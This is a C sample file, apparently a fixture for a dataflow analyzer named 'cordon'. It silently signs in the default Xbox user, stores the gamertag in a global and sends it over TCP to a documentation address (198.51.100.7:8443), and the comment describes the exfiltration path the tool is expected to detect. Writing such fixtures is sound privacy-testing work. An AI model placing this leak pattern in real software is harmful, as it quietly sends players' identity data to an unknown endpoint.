/* xbox_global_tcp: sample title (d). LEAKY, through a global.
 *
 * What it does: signs in the default Xbox user (XUserAddAsync,
 * XUserAddResult); remember_player stores the gamertag (XUserGetGamertag)
 * in the global g_gamertag; later send_presence, another function that
 * never calls the SDK, reads the global and sends it with send() on a TCP
 * connection to 198.51.100.7:8443 (TEST-NET-2, a documentation address).
 *
 * What cordon must find: one exfiltration path, source XUserGetGamertag
 * (xbox, identity) to sink send, through the global (written in
 * remember_player, read in send_presence), endpoint 198.51.100.7 (unknown
 * vendor): high under zero-trust. Dataflow confidence at -O0.
 *
 * Running it: outside a namespace that routes 198.51.100.7 the connection
 * fails ("offline") and the title exits 0. The samples' tests run it with a
 * listener on 198.51.100.7:8443 that must receive "HELLO MockGamer42". */
#include "sample_net.h"

#include <gdk/XUser.h>

#include <stdio.h>
#include <string.h>

char g_gamertag[XUserGamertagComponentClassicMaxBytes];

SAMPLE_KEEP static int remember_player(XUserHandle user) {
  size_t used = 0;
  HRESULT hr =
      XUserGetGamertag(user, XUserGamertagComponent_Classic, sizeof g_gamertag, g_gamertag, &used);
  return SUCCEEDED(hr) ? 0 : 1;
}

SAMPLE_KEEP static int send_presence(void) {
  sample_socket_t fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd == SAMPLE_BAD_SOCKET) return 1;
  struct sockaddr_in server;
  memset(&server, 0, sizeof server);
  server.sin_family = AF_INET;
  server.sin_port = htons(8443);
  inet_pton(AF_INET, "198.51.100.7", &server.sin_addr);
  if (connect(fd, (const struct sockaddr*)&server, sizeof server) != 0) {
    printf("sample: connect 198.51.100.7:8443 failed (offline)\n");
    sample_close_socket(fd);
    return 0;
  }
  char line[64];
  int length = snprintf(line, sizeof line, "HELLO %s\n", g_gamertag);
  long sent = (long)send(fd, line, length, 0);
  printf("sample: send 198.51.100.7:8443 %s\n", sent == length ? "sent" : "failed");
  sample_close_socket(fd);
  return 0;
}

int main(void) {
  if (sample_net_init() != 0) return 1;
  XAsyncBlock async;
  memset(&async, 0, sizeof async);
  XUserHandle user = NULL;
  if (FAILED(XUserAddAsync(XUserAddOptions_AddDefaultUserSilently, &async))) return 1;
  if (FAILED(XUserAddResult(&async, &user))) return 1;
  if (remember_player(user) != 0) return 1;
  XUserCloseHandle(user);
  return send_presence();
}
